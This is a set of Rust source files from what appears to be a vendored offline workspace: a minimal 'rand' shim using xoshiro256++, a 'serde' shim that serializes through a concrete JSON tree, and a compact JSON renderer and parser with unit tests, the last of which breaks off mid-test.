    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() as i64
    }
}
impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 random mantissa bits in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}
impl Standard for f32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u32() >> 8) as f32 * (1.0 / (1u32 << 24) as f32)
    }
}

/// Ranges usable with [`Rng::gen_range`].
pub trait SampleRange<T> {
    /// Sample uniformly from the range.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range_int {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = ((rng.next_u64() as u128) % span) as i128;
                (self.start as i128 + v) as $t
            }
        }
        impl SampleRange<$t> for RangeInclusive<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let span = (hi as i128 - lo as i128) as u128 + 1;
                let v = ((rng.next_u64() as u128) % span) as i128;
                (lo as i128 + v) as $t
            }
        }
    )*};
}
impl_sample_range_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleRange<f64> for Range<f64> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        self.start + f64::sample(rng) * (self.end - self.start)
    }
}

/// High-level convenience methods, blanket-implemented for every RngCore.
pub trait Rng: RngCore {
    /// Sample a uniform value of type `T`.
    fn gen<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    /// `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        f64::sample(self) < p
    }

    /// Uniform value in `range`.
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample_from(self)
    }

    /// Fill a byte slice (alias of `fill_bytes` for rand parity).
    fn fill(&mut self, dest: &mut [u8]) {
        self.fill_bytes(dest)
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9e3779b97f4a7c15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

/// The standard RNG: xoshiro256++.
#[derive(Clone, Debug)]
pub struct StdRng {
    s: [u64; 4],
}

impl StdRng {
    fn from_u64(seed: u64) -> StdRng {
        let mut sm = seed;
        let mut s = [0u64; 4];
        for slot in s.iter_mut() {
            *slot = splitmix64(&mut sm);
        }
        // All-zero state would be a fixed point; splitmix64 never yields
        // four zeros from any seed, but belt and braces:
        if s == [0; 4] {
            s[0] = 0x9e3779b97f4a7c15;
        }
        StdRng { s }
    }
}

impl SeedableRng for StdRng {
    type Seed = [u8; 32];

    fn from_seed(seed: [u8; 32]) -> StdRng {
        let mut s = [0u64; 4];
        for (i, slot) in s.iter_mut().enumerate() {
            let mut b = [0u8; 8];
            b.copy_from_slice(&seed[i * 8..i * 8 + 8]);
            *slot = u64::from_le_bytes(b);
        }
        if s == [0; 4] {
            s[0] = 0x9e3779b97f4a7c15;
        }
        StdRng { s }
    }

    fn seed_from_u64(state: u64) -> StdRng {
        StdRng::from_u64(state)
    }
}

impl RngCore for StdRng {
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    fn next_u64(&mut self) -> u64 {
        let s = &mut self.s;
        let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = s[3].rotate_left(45);
        result
    }
}

/// RNG namespaces mirroring the real crate layout.
pub mod rngs {
    pub use super::StdRng;

    /// Handle returned by [`super::thread_rng`].
    pub struct ThreadRng(pub(crate) super::StdRng);

    impl super::RngCore for ThreadRng {
        fn next_u32(&mut self) -> u32 {
            self.0.next_u32()
        }
        fn next_u64(&mut self) -> u64 {
            self.0.next_u64()
        }
    }
}

/// A freshly-seeded RNG drawing entropy from the clock, a process-wide
/// counter, and the thread id, so concurrent callers diverge.
pub fn thread_rng() -> rngs::ThreadRng {
    use std::sync::atomic::{AtomicU64, Ordering};
    use std::time::{SystemTime, UNIX_EPOCH};
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let now = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as u64).unwrap_or(0);
    let n = COUNTER.fetch_add(1, Ordering::Relaxed);
    let tid = {
        use std::hash::{Hash, Hasher};
        let mut h = std::collections::hash_map::DefaultHasher::new();
        std::thread::current().id().hash(&mut h);
        h.finish()
    };
    rngs::ThreadRng(StdRng::from_u64(now ^ n.rotate_left(32) ^ tid))
}

/// Distribution namespace (parity with the real crate's paths).
pub mod distributions {
    pub use super::Standard;
}

/// Prelude mirroring `rand::prelude`.
pub mod prelude {
    pub use super::{thread_rng, Rng, RngCore, SeedableRng, StdRng};
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_in_range() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        for _ in 0..1000 {
            let v = a.gen_range(10u64..20);
            assert!((10..20).contains(&v));
            let w = a.gen_range(1..=3);
            assert!((1..=3).contains(&w));
            let f: f64 = a.gen();
            assert!((0.0..1.0).contains(&f));
        }
    }

    #[test]
    fn gen_bool_respects_probability() {
        let mut r = StdRng::seed_from_u64(7);
        let hits = (0..10_000).filter(|_| r.gen_bool(0.25)).count();
        assert!((2000..3000).contains(&hits), "{hits}");
    }

    #[test]
    fn fill_bytes_covers_tail() {
        let mut r = StdRng::seed_from_u64(1);
        let mut buf = [0u8; 13];
        r.fill_bytes(&mut buf);
        assert!(buf.iter().any(|&b| b != 0));
    }

    #[test]
    fn thread_rngs_diverge() {
        let a = thread_rng().next_u64();
        let b = thread_rng().next_u64();
        assert_ne!(a, b);
    }
}
