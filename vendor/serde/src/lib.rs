//! Offline vendored shim for `serde`.
//!
//! The real serde decouples data structures from data formats through a
//! generic data model. This workspace only ever serializes to and from
//! JSON (via `serde_json`), so the shim collapses the model to a concrete
//! JSON tree: [`Serialize`] renders into a [`Json`] value, [`Deserialize`]
//! reads back out of one. The `#[derive(Serialize, Deserialize)]` macros
//! (re-exported from `serde_derive`) generate impls against these traits,
//! honouring the `#[serde(transparent)]` and `#[serde(default)]`
//! attributes used in this workspace and treating newtype structs, unit
//! enum variants and data-carrying enum variants the way serde_json
//! represents them (externally tagged).

pub use serde_derive::{Deserialize, Serialize};

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::fmt;
use std::hash::Hash;
use std::num::{NonZeroU32, NonZeroU64};

mod text;

pub use text::{parse_json, render_json};

/// A JSON value: the shim's entire data model.
#[derive(Clone, Debug, PartialEq)]
pub enum Json {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// A negative integer (always < 0; non-negative integers use `UInt`).
    Int(i64),
    /// A non-negative integer.
    UInt(u64),
    /// A floating-point number.
    Float(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object. Insertion-ordered; keys are unique by construction.
    Obj(Vec<(String, Json)>),
}

impl Json {
    /// Borrow as an object field list, if this is an object.
    pub fn as_obj(&self) -> Option<&[(String, Json)]> {
        match self {
            Json::Obj(o) => Some(o),
            _ => None,
        }
    }

    /// Borrow as an array, if this is one.
    pub fn as_arr(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(a) => Some(a),
            _ => None,
        }
    }

    /// Borrow as a string, if this is one.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Numeric view as u64, if representable.
    pub fn as_u64(&self) -> Option<u64> {
        match *self {
            Json::UInt(u) => Some(u),
            Json::Int(i) if i >= 0 => Some(i as u64),
            _ => None,
        }
    }

    /// Numeric view as i64, if representable.
    pub fn as_i64(&self) -> Option<i64> {
        match *self {
            Json::Int(i) => Some(i),
            Json::UInt(u) if u <= i64::MAX as u64 => Some(u as i64),
            _ => None,
        }
    }

    /// Numeric view as f64, if this is any number.
    pub fn as_f64(&self) -> Option<f64> {
        match *self {
            Json::Int(i) => Some(i as f64),
            Json::UInt(u) => Some(u as f64),
            Json::Float(f) => Some(f),
            _ => None,
        }
    }

    /// Boolean view.
    pub fn as_bool(&self) -> Option<bool> {
        match *self {
            Json::Bool(b) => Some(b),
            _ => None,
        }
    }

    /// Object field lookup by key.
    pub fn get(&self, key: &str) -> Option<&Json> {
        self.as_obj().and_then(|o| json_field(o, key))
    }
}

/// Look up a field in an object's entry list (helper used by generated code).
pub fn json_field<'a>(obj: &'a [(String, Json)], key: &str) -> Option<&'a Json> {
    obj.iter().find(|(k, _)| k == key).map(|(_, v)| v)
}

/// Deserialization error.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DeError(pub String);

impl DeError {
    /// "expected X" style error.
    pub fn expected(what: &str) -> DeError {
        DeError(format!("expected {what}"))
    }

    /// A required field was absent.
    pub fn missing_field(field: &str) -> DeError {
        DeError(format!("missing field `{field}`"))
    }

    /// An enum variant name was not recognized.
    pub fn unknown_variant(variant: &str, ty: &str) -> DeError {
        DeError(format!("unknown variant `{variant}` for {ty}"))
    }
}

impl fmt::Display for DeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for DeError {}

/// Types that can render themselves into a [`Json`] tree.
pub trait Serialize {
    /// Render into a JSON value.
    fn to_json(&self) -> Json;
}

/// Types that can be rebuilt from a [`Json`] tree.
pub trait Deserialize: Sized {
    /// Rebuild from a JSON value.
    fn from_json(v: &Json) -> Result<Self, DeError>;
}

// ---------------------------------------------------------------- scalars

impl Serialize for bool {
    fn to_json(&self) -> Json {
        Json::Bool(*self)
    }
}

impl Deserialize for bool {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_bool().ok_or_else(|| DeError::expected("bool"))
    }
}

macro_rules! impl_ser_signed {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json(&self) -> Json {
                let v = *self as i64;
                if v >= 0 { Json::UInt(v as u64) } else { Json::Int(v) }
            }
        }
        impl Deserialize for $t {
            fn from_json(v: &Json) -> Result<Self, DeError> {
                let raw = v.as_i64().ok_or_else(|| DeError::expected(stringify!($t)))?;
                <$t>::try_from(raw).map_err(|_| DeError::expected(stringify!($t)))
            }
        }
    )*};
}
impl_ser_signed!(i8, i16, i32, i64, isize);

macro_rules! impl_ser_unsigned {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json(&self) -> Json {
                Json::UInt(*self as u64)
            }
        }
        impl Deserialize for $t {
            fn from_json(v: &Json) -> Result<Self, DeError> {
                let raw = v.as_u64().ok_or_else(|| DeError::expected(stringify!($t)))?;
                <$t>::try_from(raw).map_err(|_| DeError::expected(stringify!($t)))
            }
        }
    )*};
}
impl_ser_unsigned!(u8, u16, u32, u64, usize);

impl Serialize for f64 {
    fn to_json(&self) -> Json {
        Json::Float(*self)
    }
}

impl Deserialize for f64 {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_f64().ok_or_else(|| DeError::expected("number"))
    }
}

impl Serialize for f32 {
    fn to_json(&self) -> Json {
        Json::Float(*self as f64)
    }
}

impl Deserialize for f32 {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_f64().map(|f| f as f32).ok_or_else(|| DeError::expected("number"))
    }
}

impl Serialize for String {
    fn to_json(&self) -> Json {
        Json::Str(self.clone())
    }
}

impl Deserialize for String {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_str().map(str::to_string).ok_or_else(|| DeError::expected("string"))
    }
}

impl Serialize for str {
    fn to_json(&self) -> Json {
        Json::Str(self.to_string())
    }
}

impl Serialize for char {
    fn to_json(&self) -> Json {
        Json::Str(self.to_string())
    }
}

impl Deserialize for char {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        let s = v.as_str().ok_or_else(|| DeError::expected("single-char string"))?;
        let mut it = s.chars();
        match (it.next(), it.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(DeError::expected("single-char string")),
        }
    }
}

impl Serialize for NonZeroU64 {
    fn to_json(&self) -> Json {
        Json::UInt(self.get())
    }
}

impl Deserialize for NonZeroU64 {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        let raw = v.as_u64().ok_or_else(|| DeError::expected("non-zero u64"))?;
        NonZeroU64::new(raw).ok_or_else(|| DeError::expected("non-zero u64"))
    }
}

impl Serialize for NonZeroU32 {
    fn to_json(&self) -> Json {
        Json::UInt(self.get() as u64)
    }
}

impl Deserialize for NonZeroU32 {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        let raw = v.as_u64().ok_or_else(|| DeError::expected("non-zero u32"))?;
        u32::try_from(raw).ok().and_then(NonZeroU32::new).ok_or_else(|| DeError::expected("non-zero u32"))
    }
}

// ----------------------------------------------------------- containers

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_json(&self) -> Json {
        (**self).to_json()
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn to_json(&self) -> Json {
        match self {
            Some(v) => v.to_json(),
            None => Json::Null,
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        match v {
            Json::Null => Ok(None),
            other => T::from_json(other).map(Some),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_json(&self) -> Json {
        Json::Arr(self.iter().map(Serialize::to_json).collect())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_arr().ok_or_else(|| DeError::expected("array"))?.iter().map(T::from_json).collect()
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_json(&self) -> Json {
        Json::Arr(self.iter().map(Serialize::to_json).collect())
    }
}

impl<T: Serialize, const N: usize> Serialize for [T; N] {
    fn to_json(&self) -> Json {
        Json::Arr(self.iter().map(Serialize::to_json).collect())
    }
}

impl<T: Deserialize + fmt::Debug, const N: usize> Deserialize for [T; N] {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        let items: Vec<T> = Deserialize::from_json(v)?;
        let got = items.len();
        <[T; N]>::try_from(items).map_err(|_| DeError(format!("expected array of {N} elements, got {got}")))
    }
}

impl<T: Serialize + Ord> Serialize for BTreeSet<T> {
    fn to_json(&self) -> Json {
        Json::Arr(self.iter().map(Serialize::to_json).collect())
    }
}

impl<T: Deserialize + Ord> Deserialize for BTreeSet<T> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_arr().ok_or_else(|| DeError::expected("array"))?.iter().map(T::from_json).collect()
    }
}

impl<T: Serialize + Eq + Hash> Serialize for HashSet<T> {
    fn to_json(&self) -> Json {
        // Deterministic output: sort the rendered elements.
        let mut items: Vec<Json> = self.iter().map(Serialize::to_json).collect();
        items.sort_by(|a, b| render_json(a).cmp(&render_json(b)));
        Json::Arr(items)
    }
}

impl<T: Deserialize + Eq + Hash> Deserialize for HashSet<T> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_arr().ok_or_else(|| DeError::expected("array"))?.iter().map(T::from_json).collect()
    }
}

macro_rules! impl_tuple {
    ($(($($n:tt $t:ident),+))*) => {$(
        impl<$($t: Serialize),+> Serialize for ($($t,)+) {
            fn to_json(&self) -> Json {
                Json::Arr(vec![$(self.$n.to_json()),+])
            }
        }
        impl<$($t: Deserialize),+> Deserialize for ($($t,)+) {
            fn from_json(v: &Json) -> Result<Self, DeError> {
                let a = v.as_arr().ok_or_else(|| DeError::expected("tuple array"))?;
                let mut it = a.iter();
                let out = ($({
                    let _ = $n; // positional marker
                    $t::from_json(it.next().ok_or_else(|| DeError::expected("tuple element"))?)?
                },)+);
                if it.next().is_some() {
                    return Err(DeError::expected("tuple of exact arity"));
                }
                Ok(out)
            }
        }
    )*};
}
impl_tuple! {
    (0 A)
    (0 A, 1 B)
    (0 A, 1 B, 2 C)
    (0 A, 1 B, 2 C, 3 D)
}

/// Map keys. JSON object keys must be strings; string and integer keys
/// render the way serde_json renders them, and composite (tuple) keys are
/// encoded as a JSON-array string so maps like
/// `HashMap<(String, String), V>` — which the real serde_json refuses to
/// serialize — round-trip losslessly through this shim.
pub trait JsonKey: Sized {
    /// Encode as an object key.
    fn to_key(&self) -> String;
    /// Decode from an object key.
    fn from_key(s: &str) -> Result<Self, DeError>;
}

impl JsonKey for String {
    fn to_key(&self) -> String {
        self.clone()
    }
    fn from_key(s: &str) -> Result<Self, DeError> {
        Ok(s.to_string())
    }
}

macro_rules! impl_key_int {
    ($($t:ty),*) => {$(
        impl JsonKey for $t {
            fn to_key(&self) -> String {
                self.to_string()
            }
            fn from_key(s: &str) -> Result<Self, DeError> {
                s.parse().map_err(|_| DeError::expected(concat!(stringify!($t), " key")))
            }
        }
    )*};
}
impl_key_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl<A, B> JsonKey for (A, B)
where
    A: Serialize + Deserialize,
    B: Serialize + Deserialize,
{
    fn to_key(&self) -> String {
        render_json(&Json::Arr(vec![self.0.to_json(), self.1.to_json()]))
    }
    fn from_key(s: &str) -> Result<Self, DeError> {
        let v = parse_json(s).map_err(|e| DeError(format!("bad composite key: {e}")))?;
        Deserialize::from_json(&v)
    }
}

impl<K: JsonKey + Ord, V: Serialize> Serialize for BTreeMap<K, V> {
    fn to_json(&self) -> Json {
        Json::Obj(self.iter().map(|(k, v)| (k.to_key(), v.to_json())).collect())
    }
}

impl<K: JsonKey + Ord, V: Deserialize> Deserialize for BTreeMap<K, V> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_obj()
            .ok_or_else(|| DeError::expected("object"))?
            .iter()
            .map(|(k, val)| Ok((K::from_key(k)?, V::from_json(val)?)))
            .collect()
    }
}

impl<K: JsonKey + Eq + Hash, V: Serialize> Serialize for HashMap<K, V> {
    fn to_json(&self) -> Json {
        // Deterministic output: sort by rendered key.
        let mut entries: Vec<(String, Json)> =
            self.iter().map(|(k, v)| (k.to_key(), v.to_json())).collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        Json::Obj(entries)
    }
}

impl<K: JsonKey + Eq + Hash, V: Deserialize> Deserialize for HashMap<K, V> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        v.as_obj()
            .ok_or_else(|| DeError::expected("object"))?
            .iter()
            .map(|(k, val)| Ok((K::from_key(k)?, V::from_json(val)?)))
            .collect()
    }
}

impl Serialize for Json {
    fn to_json(&self) -> Json {
        self.clone()
    }
}

impl Deserialize for Json {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        Ok(v.clone())
    }
}

impl Serialize for () {
    fn to_json(&self) -> Json {
        Json::Null
    }
}

impl Deserialize for () {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        match v {
            Json::Null => Ok(()),
            _ => Err(DeError::expected("null")),
        }
    }
}

impl<T: Serialize> Serialize for Box<T> {
    fn to_json(&self) -> Json {
        (**self).to_json()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_json(v: &Json) -> Result<Self, DeError> {
        T::from_json(v).map(Box::new)
    }
}

impl Serialize for std::time::Duration {
    fn to_json(&self) -> Json {
        Json::Float(self.as_secs_f64())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scalar_round_trip() {
        for v in [0u64, 1, u64::MAX] {
            let j = v.to_json();
            assert_eq!(u64::from_json(&j).unwrap(), v);
        }
        assert_eq!(i64::from_json(&(-5i64).to_json()).unwrap(), -5);
        assert!(u8::from_json(&Json::UInt(256)).is_err());
    }

    #[test]
    fn composite_key_round_trip() {
        let mut m: HashMap<(String, String), String> = HashMap::new();
        m.insert(("a,\"x".into(), "b".into()), "v".into());
        let j = m.to_json();
        let back: HashMap<(String, String), String> = Deserialize::from_json(&j).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn option_and_array() {
        let v: Option<u32> = None;
        assert_eq!(v.to_json(), Json::Null);
        let arr = [1i64, 2, 3, 4, 5];
        let back: [i64; 5] = Deserialize::from_json(&arr.to_json()).unwrap();
        assert_eq!(back, arr);
    }
}
