//! Compact JSON text rendering and parsing for the [`Json`](crate::Json)
//! model. Output matches serde_json's compact style (no whitespace,
//! minimal escapes).

use crate::Json;
use std::fmt::Write as _;

/// Render a JSON tree as compact text.
pub fn render_json(v: &Json) -> String {
    let mut out = String::new();
    render_into(v, &mut out);
    out
}

fn render_into(v: &Json, out: &mut String) {
    match v {
        Json::Null => out.push_str("null"),
        Json::Bool(true) => out.push_str("true"),
        Json::Bool(false) => out.push_str("false"),
        Json::Int(i) => {
            let _ = write!(out, "{i}");
        }
        Json::UInt(u) => {
            let _ = write!(out, "{u}");
        }
        Json::Float(f) => {
            if f.is_finite() {
                if *f == f.trunc() && f.abs() < 1e15 {
                    // serde_json renders integral floats with a ".0".
                    let _ = write!(out, "{f:.1}");
                } else {
                    let _ = write!(out, "{f}");
                }
            } else {
                // serde_json errors on non-finite; we degrade to null.
                out.push_str("null");
            }
        }
        Json::Str(s) => render_string(s, out),
        Json::Arr(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                render_into(item, out);
            }
            out.push(']');
        }
        Json::Obj(entries) => {
            out.push('{');
            for (i, (k, val)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                render_string(k, out);
                out.push(':');
                render_into(val, out);
            }
            out.push('}');
        }
    }
}

fn render_string(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{08}' => out.push_str("\\b"),
            '\u{0c}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Parse JSON text into a [`Json`] tree.
pub fn parse_json(input: &str) -> Result<Json, String> {
    let mut p = Parser { bytes: input.as_bytes(), pos: 0 };
    p.skip_ws();
    let v = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(format!("trailing characters at byte {}", p.pos));
    }
    Ok(v)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

const MAX_DEPTH: usize = 128;

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while let Some(&b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn eat(&mut self, b: u8) -> Result<(), String> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected '{}' at byte {}", b as char, self.pos))
        }
    }

    fn value(&mut self) -> Result<Json, String> {
        self.value_at(0)
    }

    fn value_at(&mut self, depth: usize) -> Result<Json, String> {
        if depth > MAX_DEPTH {
            return Err("recursion limit exceeded".to_string());
        }
        match self.peek() {
            Some(b'n') => self.keyword("null", Json::Null),
            Some(b't') => self.keyword("true", Json::Bool(true)),
            Some(b'f') => self.keyword("false", Json::Bool(false)),
            Some(b'"') => self.string().map(Json::Str),
            Some(b'[') => {
                self.pos += 1;
                let mut items = Vec::new();
                self.skip_ws();
                if self.peek() == Some(b']') {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                loop {
                    self.skip_ws();
                    items.push(self.value_at(depth + 1)?);
                    self.skip_ws();
                    match self.peek() {
                        Some(b',') => self.pos += 1,
                        Some(b']') => {
                            self.pos += 1;
                            return Ok(Json::Arr(items));
                        }
                        _ => return Err(format!("expected ',' or ']' at byte {}", self.pos)),
                    }
                }
            }
            Some(b'{') => {
                self.pos += 1;
                let mut entries = Vec::new();
                self.skip_ws();
                if self.peek() == Some(b'}') {
                    self.pos += 1;
                    return Ok(Json::Obj(entries));
                }
                loop {
                    self.skip_ws();
                    let key = self.string()?;
                    self.skip_ws();
                    self.eat(b':')?;
                    self.skip_ws();
                    let val = self.value_at(depth + 1)?;
                    entries.push((key, val));
                    self.skip_ws();
                    match self.peek() {
                        Some(b',') => self.pos += 1,
                        Some(b'}') => {
                            self.pos += 1;
                            return Ok(Json::Obj(entries));
                        }
                        _ => return Err(format!("expected ',' or '}}' at byte {}", self.pos)),
                    }
                }
            }
            Some(b'-') | Some(b'0'..=b'9') => self.number(),
            Some(other) => Err(format!("unexpected byte '{}' at {}", other as char, self.pos)),
            None => Err("unexpected end of input".to_string()),
        }
    }

    fn keyword(&mut self, word: &str, value: Json) -> Result<Json, String> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(format!("invalid literal at byte {}", self.pos))
        }
    }

    fn number(&mut self) -> Result<Json, String> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        let mut is_float = false;
        while let Some(b) = self.peek() {
            match b {
                b'0'..=b'9' => self.pos += 1,
                b'.' | b'e' | b'E' | b'+' | b'-' => {
                    is_float = true;
                    self.pos += 1;
                }
                _ => break,
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).map_err(|_| "bad number")?;
        if is_float {
            text.parse::<f64>().map(Json::Float).map_err(|e| format!("bad number `{text}`: {e}"))
        } else if let Some(stripped) = text.strip_prefix('-') {
            // Negative integer.
            stripped
                .parse::<u64>()
                .ok()
                .and_then(|_| text.parse::<i64>().ok())
                .map(Json::Int)
                .or_else(|| text.parse::<f64>().ok().map(Json::Float))
                .ok_or_else(|| format!("bad number `{text}`"))
        } else {
            text.parse::<u64>()
                .map(Json::UInt)
                .or_else(|_| text.parse::<f64>().map(Json::Float))
                .map_err(|e| format!("bad number `{text}`: {e}"))
        }
    }

    fn string(&mut self) -> Result<String, String> {
        self.eat(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err("unterminated string".to_string()),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => {
                            out.push('"');
                            self.pos += 1;
                        }
                        Some(b'\\') => {
                            out.push('\\');
                            self.pos += 1;
                        }
                        Some(b'/') => {
                            out.push('/');
                            self.pos += 1;
                        }
                        Some(b'n') => {
                            out.push('\n');
                            self.pos += 1;
                        }
                        Some(b'r') => {
                            out.push('\r');
                            self.pos += 1;
                        }
                        Some(b't') => {
                            out.push('\t');
                            self.pos += 1;
                        }
                        Some(b'b') => {
                            out.push('\u{08}');
                            self.pos += 1;
                        }
                        Some(b'f') => {
                            out.push('\u{0c}');
                            self.pos += 1;
                        }
                        Some(b'u') => {
                            self.pos += 1;
                            let hi = self.hex4()?;
                            let c = if (0xd800..0xdc00).contains(&hi) {
                                // Surrogate pair.
                                self.eat(b'\\')?;
                                self.eat(b'u')?;
                                let lo = self.hex4()?;
                                if !(0xdc00..0xe000).contains(&lo) {
                                    return Err("invalid low surrogate".to_string());
                                }
                                let code = 0x10000 + ((hi - 0xd800) << 10) + (lo - 0xdc00);
                                char::from_u32(code).ok_or("invalid surrogate pair")?
                            } else {
                                char::from_u32(hi).ok_or("invalid \\u escape")?
                            };
                            out.push(c);
                        }
                        _ => return Err(format!("invalid escape at byte {}", self.pos)),
                    }
                }
                Some(b) if b < 0x80 => {
                    // Fast path: swallow a whole run of single-byte chars at
                    // once — validating from the string start per character
                    // would make large payloads quadratic.
                    let start = self.pos;
                    while let Some(&c) = self.bytes.get(self.pos) {
                        if c == b'"' || c == b'\\' || c >= 0x80 {
                            break;
                        }
                        self.pos += 1;
                    }
                    // The run is pure ASCII, so it is valid UTF-8.
                    out.push_str(std::str::from_utf8(&self.bytes[start..self.pos]).unwrap());
                }
                Some(_) => {
                    // Multi-byte UTF-8: decode one char, validating at most
                    // its four bytes.
                    let end = (self.pos + 4).min(self.bytes.len());
                    let chunk = &self.bytes[self.pos..end];
                    let c = match std::str::from_utf8(chunk) {
                        Ok(s) => s.chars().next().unwrap(),
                        Err(e) if e.valid_up_to() > 0 => std::str::from_utf8(&chunk[..e.valid_up_to()])
                            .unwrap()
                            .chars()
                            .next()
                            .unwrap(),
                        Err(_) => return Err("invalid UTF-8 in string".to_string()),
                    };
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, String> {
        if self.pos + 4 > self.bytes.len() {
            return Err("truncated \\u escape".to_string());
        }
        let s = std::str::from_utf8(&self.bytes[self.pos..self.pos + 4]).map_err(|_| "bad \\u escape")?;
        let v = u32::from_str_radix(s, 16).map_err(|_| "bad \\u escape")?;
        self.pos += 4;
        Ok(v)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip_basic() {
        let cases = [
            r#"null"#,
            r#"true"#,
            r#"123"#,
            r#"-7"#,
            r#"[1,2,3]"#,
            r#"{"a":1,"b":[true,null]}"#,
            r#""he\"llo\n""#,
        ];
        for c in cases {
            let v = parse_json(c).unwrap();
            let r = render_json(&v);
